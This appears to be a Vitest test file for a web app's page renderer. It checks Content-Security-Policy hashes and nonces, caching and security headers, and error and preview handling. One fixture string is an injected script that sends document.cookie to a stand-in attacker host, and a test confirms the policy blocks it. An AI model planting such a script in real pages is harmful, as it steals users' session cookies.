import { createHash } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { traceCall } from '../content/content-trace.server.ts'
import type { CachedPage } from './cached-page.server.ts'
import { lastResort } from './last-resort.server.ts'
import { type Rendering, type RenderSite, renderPage } from './render-page.server.ts'
import { securityHeaders } from './security-headers.server.ts'

const own = '$_TSR.begin()'
const injected = 'fetch("https://evil.example/"+document.cookie)'

/** As the site renders: its scripts carry the marker, and somewhere content got a script in. */
const site =
  (status = 200, headers: Record<string, string> = {}): RenderSite =>
  async (_request, { scriptMarker }) =>
    new Response(
      `<html><head><meta property="csp-nonce" content="${scriptMarker}"/>` +
        `<link rel="modulepreload" nonce="${scriptMarker}" href="/assets/a.js"/><link rel="stylesheet" href="/assets/a.css"/></head>` +
        `<body><h1>Hei</h1><script>${injected}</script>` +
        `<script nonce="${scriptMarker}">${own}</script>` +
        `<script type="module" nonce="${scriptMarker}" async="" src="/assets/index.js"></script></body></html>`,
      { status, headers },
    )

async function render(
  renderSite: RenderSite = site(),
  {
    preview = false,
    personal = false,
    light = false,
    isDevelopment = false,
    differsByScreen = false,
    cardHosts,
    life,
  }: Partial<
    Rendering & {
      isDevelopment: boolean
      differsByScreen: boolean
      cardHosts: readonly string[]
      life: number
    }
  > = {},
) {
  return headersAndText(
    await renderPage(
      renderSite,
      { address: '/', locale: 'no', screen: 'large', preview, personal, light },
      {
        origin: 'https://trivsel.example',
        headers: securityHeaders({ https: true, withSubdomains: false }),
        isDevelopment,
        life,
        differsByScreen,
        ...(cardHosts && { cardHosts }),
      },
    ),
  )
}

function headersAndText(page: CachedPage) {
  const { headers, body } = page.variants.identity
  const pairs = headers.flatMap((name, index) =>
    index % 2 === 0 ? [[name, headers[index + 1] ?? '']] : [],
  )
  return { page, headers: Object.fromEntries(pairs), text: body.toString() }
}

const hashOf = (script: string) =>
  `'sha256-${createHash('sha256').update(script).digest('base64')}'`

/** The sources of each directive. */
function policyOf(headers: Record<string, string>): Record<string, string[]> {
  const directives = (headers['content-security-policy'] ?? '').split('; ')
  return Object.fromEntries(
    directives.map((directive) => {
      const [name = '', ...sources] = directive.split(' ')
      return [name, sources]
    }),
  )
}

/** Everything but scripts, which differ by page. */
const others = {
  'default-src': ["'none'"],
  'style-src': ["'self'"],
  'img-src': ["'self'", 'data:'],
  'font-src': ["'self'"],
  'media-src': ["'self'", 'https:'],
  'frame-src': ['https://www.youtube-nocookie.com', 'https://player.vimeo.com'],
  'connect-src': ["'self'"],
  'worker-src': ["'self'"],
  'manifest-src': ["'self'"],
  'form-action': ["'self'"],
  'base-uri': ["'none'"],
  'frame-ancestors': ["'none'"],
}

describe('the policy of a rendered page', () => {
  it('allows what the page is made of, its own scripts by their text, and no frame around it', async () => {
    const { headers, text } = await render()
    const start = /<script data-start="">(.*?)<\/script>/.exec(text)?.[1] ?? ''
    expect(policyOf(headers)).toEqual({
      ...others,
      'script-src': ["'self'", hashOf(own), hashOf(start)],
    })
  })

  it('allows the card form where something is paid, and nothing else of its hosts', async () => {
    const hosts = ['https://*.payex.com', 'https://*.swedbankpay.com']
    const { headers } = await render(site(), { cardHosts: hosts })
    const { 'script-src': scripts, ...rest } = policyOf(headers)
    const widened = ['style-src', 'img-src', 'frame-src', 'connect-src'] as const
    expect(rest).toEqual({
      ...others,
      ...Object.fromEntries(widened.map((name) => [name, [...others[name], ...hosts]])),
    })
    expect(scripts?.slice(-2)).toEqual(hosts)
  })

  it('does not allow a script that got into its content', async () => {
    const { headers, text } = await render()
    expect(text).toContain(`<script>${injected}</script>`)
    expect(headers['content-security-policy']).not.toContain(hashOf(injected))
    expect(headers['content-security-policy']).not.toMatch(/unsafe|nonce/)
  })

  it('goes by a marker that cannot be guessed, another one each time', async () => {
    const markers = new Set<string | undefined>()
    const noting: RenderSite = (request, context) => {
      markers.add(context.scriptMarker)
      return site()(request, context)
    }
    await render(noting)
    await render(noting)
    expect([...markers].map((marker) => marker?.length)).toEqual([24, 24])
  })

  it('of a light page allows nothing but our files, and needs no marker', async () => {
    const markers: unknown[] = []
    const noting: RenderSite = (request, context) => {
      markers.push(context.scriptMarker)
      return site()(request, context)
    }
    const { headers } = await render(noting, { light: true })
    expect(headers['content-security-policy']).toContain("script-src 'self';")
    expect(markers).toEqual([undefined])
  })

  it('is there when nothing could be rendered, and allows no script at all but our files', async () => {
    const { headers } = headersAndText(
      await lastResort('failed', 'no', securityHeaders({ https: true, withSubdomains: false })),
    )
    expect(policyOf(headers)).toEqual({ ...others, 'script-src': ["'self'"] })
    expect(headers).toMatchObject({
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    })
  })

  it('does not hinder Vite in development', async () => {
    expect((await render(site(), { isDevelopment: true })).headers).not.toHaveProperty(
      'content-security-policy',
    )
  })
})

describe('a page whose calls could not be served', () => {
  const life = 60_000
  const failing =
    (call: () => Promise<Response>, { waits = true } = {}): RenderSite =>
    async () => {
      const answered = traceCall(call).then((response) => response.ok)
      const isServed = waits && (await answered)
      return new Response('', { status: isServed ? 200 : 500 })
    }
  const answering = (status: number) => async () => new Response(null, { status })

  it.each([
    ['the API could not serve it for now', failing(answering(503)), 503],
    [
      'the API did not answer in time',
      failing(() => new Promise(() => undefined), { waits: false }),
      503,
    ],
    ['the fault is ours', failing(answering(500)), 500],
  ])('says so: %s', async (_, renderSite, status) => {
    const { page, headers } = await render(renderSite)
    expect(page.status).toBe(status)
    expect(headers['retry-after']).toBe(status === 503 ? '5' : undefined)
  })

  it('is tried again soon where the rest of it can be shown', async () => {
    const without: RenderSite = async () => {
      await traceCall(answering(503))
      return new Response('')
    }
    const { page } = await render(without, { life })
    expect([page.status, page.life]).toEqual([200, 2_000])
    expect((await render(site(), { life })).page.life).toBe(life)
  })
})

describe('a rendered page', () => {
  it('is the same bytes however often it is rendered: nothing of the marker is left', async () => {
    const first = await render()
    expect((await render()).text).toBe(first.text)
    expect(first.text).not.toContain('nonce')
  })

  it('is kept by caches by its encoding alone, and browsers revalidate each time', async () => {
    const { headers } = await render()
    expect(headers).toMatchObject({
      'content-type': 'text/html; charset=utf-8',
      'cache-control': 'public, no-cache',
      vary: 'Accept-Encoding',
    })
    expect(headers).not.toHaveProperty('x-robots-tag')
  })

  it('is kept by what tells of the screen where it differs by it', async () => {
    const { headers } = await render(site(), { differsByScreen: true })
    expect(headers.vary).toBe('Accept-Encoding, Sec-CH-UA-Mobile, User-Agent, X-Screen')
  })

  it('carries the headers of every answer', async () => {
    expect((await render()).headers).toMatchObject(
      securityHeaders({ https: true, withSubdomains: false }),
    )
  })

  it('of drafts is cached by nobody and found by no search engine', async () => {
    const { headers } = await render(site(), { preview: true })
    expect(headers).toMatchObject({ 'cache-control': 'no-store', 'x-robots-tag': 'noindex' })
    expect(policyOf(headers)['frame-ancestors']).toEqual(["'none'"])
  })

  it.each([404, 500])('that is an error (%i) is cached by nobody', async (status) => {
    const { headers, page } = await render(site(status))
    expect([page.status, headers['cache-control']]).toEqual([status, 'no-store'])
    expect(headers).toHaveProperty('content-security-policy')
  })

  it('that leads on says where to', async () => {
    expect((await render(site(307, { location: '/ny' }))).headers).toMatchObject({
      location: '/ny',
      'cache-control': 'no-store',
    })
  })
})
